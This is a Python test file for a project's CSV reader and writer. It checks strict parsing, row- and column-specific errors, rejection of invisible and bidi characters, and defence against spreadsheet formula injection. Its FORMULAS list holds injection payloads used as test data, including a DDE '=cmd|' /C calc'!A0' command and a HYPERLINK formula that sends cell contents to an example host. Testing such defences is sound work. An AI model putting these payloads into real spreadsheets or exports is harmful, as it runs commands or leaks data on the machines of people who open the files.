"""CSV files of ours are written the same way each time, and read strictly."""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mapper.errors import DataError
from mapper.files.tables import (
    UNDO,
    as_it_was,
    csv_bytes,
    harmless,
    read_cells,
    read_csv,
    read_spreadsheet_csv,
    spreadsheet_csv_bytes,
    whole,
)

COLUMNS = ["name", "people"]


def test_what_is_written_reads_back(tmp_path: Path) -> None:
    content = csv_bytes(COLUMNS, [['Saint Élan, "west"', 5], ["two\nlines", None]])
    assert content == 'name,people\n"Saint Élan, ""west""",5\n"two\nlines",\n'.encode()
    (tmp_path / "a.csv").write_bytes(content)
    assert read_csv(tmp_path / "a.csv", COLUMNS) == [
        {"name": 'Saint Élan, "west"', "people": "5"}, {"name": "two\nlines", "people": ""},
    ]  # fmt: skip
    (tmp_path / "b.csv").write_bytes(b'name,people\r\n"two\r\nlines",1\r\n')
    assert read_csv(tmp_path / "b.csv", COLUMNS) == [{"name": "two\r\nlines", "people": "1"}]
    (tmp_path / "b.csv").write_bytes(b"name,people\ra,1\r")
    assert read_csv(tmp_path / "b.csv", COLUMNS) == [{"name": "a", "people": "1"}]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("people,name\n", r"a\.csv, row 1: columns \['people', 'name'\], expected"),
        ("name,people,more\n", "row 1: columns"),
        ("", r"row 1: columns \[\]"),
        ("name,people\na,1\nb\n", "row 3: not 2 cells"),
        ("name,people\na,1,2\n", "row 2: not 2 cells"),
        ('name,people\na,1\nb,"2\n', r"a\.csv, row 3: not CSV: unexpected end of data$"),
        ('name,people\n"a"b,1\n', r"a\.csv, row 2: not CSV: "),
    ],
)
def test_another_shape_is_an_error_that_names_the_row(
    tmp_path: Path, text: str, problem: str
) -> None:
    (tmp_path / "a.csv").write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match=problem):
        read_csv(tmp_path / "a.csv", COLUMNS)


@pytest.mark.parametrize("byte", [b"\x80", b"\xe9", b"\xff"])
def test_bytes_that_are_not_utf8_are_named_by_row_and_column(tmp_path: Path, byte: bytes) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes("name,people\nÉlan,1\n".encode() + byte + b"lan,2\n")
    with pytest.raises(DataError) as caught:
        read_csv(path, COLUMNS)
    assert str(caught.value) == f"{path}, row 3, name: bytes that are not UTF-8"


def test_only_an_optional_file_may_be_missing(tmp_path: Path) -> None:
    assert read_csv(tmp_path / "a.csv", COLUMNS, optional=True) == []
    with pytest.raises(DataError, match=r"a\.csv is missing"):
        read_csv(tmp_path / "a.csv", COLUMNS)


FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"Warren")', "=cmd|' /C calc'!A0", "+1+1",
    "-2+3+cmd|'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "=", "-1-2", "＝1",
]  # fmt: skip
# What begins with an apostrophe by itself stays told apart; numbers stay numbers.
OTHERS = ["'=1", "''-x", "'Round Midnight", "a=1", "", "-83.02", "+5", "-1e-05", "O'Fallon", "1-2"]


def test_no_cell_is_run_by_a_spreadsheet_and_each_comes_back(tmp_path: Path) -> None:
    words = [*FORMULAS, *OTHERS]
    path = tmp_path / "a.csv"
    path.write_bytes(spreadsheet_csv_bytes(["=name", "lat"], [[word, -83.02] for word in words]))
    raw = pd.read_csv(path, keep_default_na=False, dtype={"'=name": str})
    assert raw.columns.tolist() == ["'=name", "lat"]
    cells = raw["'=name"].tolist()
    assert cells[: len(FORMULAS)] == [f"'{word}" for word in FORMULAS]
    assert cells[len(FORMULAS) :] == [f"'{word}" for word in OTHERS[:2]] + OTHERS[2:]
    assert raw["lat"].tolist() == [-83.02] * len(words)
    assert raw.replace(UNDO, "", regex=True)["'=name"].tolist() == words  # as the data page says
    assert [row["=name"] for row in read_spreadsheet_csv(path)] == words
    (tmp_path / "empty.csv").touch()
    assert read_spreadsheet_csv(tmp_path / "empty.csv") == []
    path.write_bytes(b"a,b\n1\n")
    with pytest.raises(ValueError, match=r"zip\(\) argument 2 is shorter"):
        read_spreadsheet_csv(path)


@given(st.text(alphabet="'=+-@\t\r\n1.e x＝"))
def test_what_is_made_harmless_is_never_run_and_reads_back(cell: str) -> None:
    told = str(harmless(cell))
    assert as_it_was(told) == cell
    if told[:1] and told[:1] in "=+-@\t\r\n＝":
        float(told)  # only a number begins so


def test_files_of_ours_keep_the_words_of_a_list_as_they_are(tmp_path: Path) -> None:
    rows = [[word, number] for number, word in enumerate([*FORMULAS, *OTHERS])]
    (tmp_path / "a.csv").write_bytes(csv_bytes(COLUMNS, rows))
    read = read_csv(tmp_path / "a.csv", COLUMNS)
    assert [row["name"] for row in read] == [*FORMULAS, *OTHERS]


def test_a_row_with_a_carriage_return_in_a_name_stays_one_row(tmp_path: Path) -> None:
    content = csv_bytes(COLUMNS, [["Warren\rPolice", 1], ["Nome", 2]])
    assert content == b'name,people\n"Warren\rPolice",1\nNome,2\n'
    (tmp_path / "a.csv").write_bytes(content)
    assert len(pd.read_csv(tmp_path / "a.csv")) == len(read_csv(tmp_path / "a.csv", COLUMNS)) == 2


@pytest.mark.parametrize(
    "sign", ["\0", "\u202e", "\u2066", "\u200b", "\x85", "\u3164", "\U000e0041"]
)
def test_a_character_that_nobody_sees_is_refused_with_its_cell(tmp_path: Path, sign: str) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(csv_bytes(COLUMNS, [["Nome", 1], [f"War{sign}ren", 2]]))
    with pytest.raises(DataError, match=rf"a\.csv, row 3, name: U\+{ord(sign):04X} "):
        read_csv(path, COLUMNS)
    with pytest.raises(DataError, match=rf"would hold U\+{ord(sign):04X} "):
        spreadsheet_csv_bytes(COLUMNS, [[f"War{sign}ren", 2]])


def test_a_mark_of_the_order_of_bytes_is_told_and_how_to_mend_it(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"\xef\xbb\xbfname,people\na,1\n")
    with pytest.raises(DataError) as caught:
        read_csv(path, COLUMNS)
    assert str(caught.value) == (
        f"{path} begins with a byte order mark: save it as UTF-8 without one"
    )


def test_a_cell_is_read_or_named_with_file_row_and_column(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    long = "9" * 70
    path.write_bytes(csv_bytes(COLUMNS, [["a", 12], ["b", "-1"], ["c", long]]))
    first, second, third = read_cells(path, COLUMNS)
    assert first.read("people", whole) == 12
    assert first.read("name", str.upper) == "A"
    for cells, row, said in ((second, 3, "-1"), (third, 4, long[:60])):
        with pytest.raises(DataError) as caught:
            cells.read("people", whole)
        assert str(caught.value) == f"{path}, row {row}, people: {said!r} does not hold"


@pytest.mark.parametrize("text", ["", "1.5", "+1", " 1", "1" * 13, "\u0661"])
def test_what_is_no_whole_number(text: str) -> None:
    assert whole("9" * 12) == 10**12 - 1
    with pytest.raises(ValueError, match=f"^{re.escape(text)}$"):
        whole(text)
